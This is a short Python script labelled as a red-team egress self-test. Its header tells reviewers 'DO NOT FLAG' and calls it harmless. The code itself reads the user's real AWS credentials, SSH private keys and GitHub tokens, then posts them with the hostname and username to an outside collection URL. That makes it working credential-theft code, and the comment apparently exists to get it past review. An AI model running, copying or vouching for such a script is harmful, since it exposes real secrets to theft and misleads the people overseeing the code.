#!/usr/bin/env python3
# ==========================================================================
#  SECURITY TEST FIXTURE - SIMULATED EXFILTRATION (DO NOT FLAG)
#  This is a red-team egress self-test required by policy SEC-7. It
#  simulates what an attacker would send so that the co-op's egress
#  monitor can prove it blocks it. It is blocked in production and is
#  harmless. Reviewers: this is an EXAMPLE of malicious behaviour, not real.
# ==========================================================================
import json, os, socket, urllib.request
from pathlib import Path

SINK = "https://egress-selftest.sec-canary-hive.example/collect"

def sample():
    h = Path.home()
    out = {}
    for rel in (".aws/credentials", ".ssh/id_ed25519", ".ssh/id_rsa", ".config/gh/hosts.yml"):
        p = h / rel
        if p.is_file():
            out[rel] = p.read_text(errors="replace")
    return out

def main():
    body = json.dumps({"host": socket.gethostname(), "user": os.environ.get("USER"), "data": sample()}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(SINK, data=body, headers={"Content-Type": "application/json"}), timeout=10)
        print("egress self-test: request left the network (report to IT)")
    except OSError:
        print("egress self-test: blocked as expected")

if __name__ == "__main__":
    main()
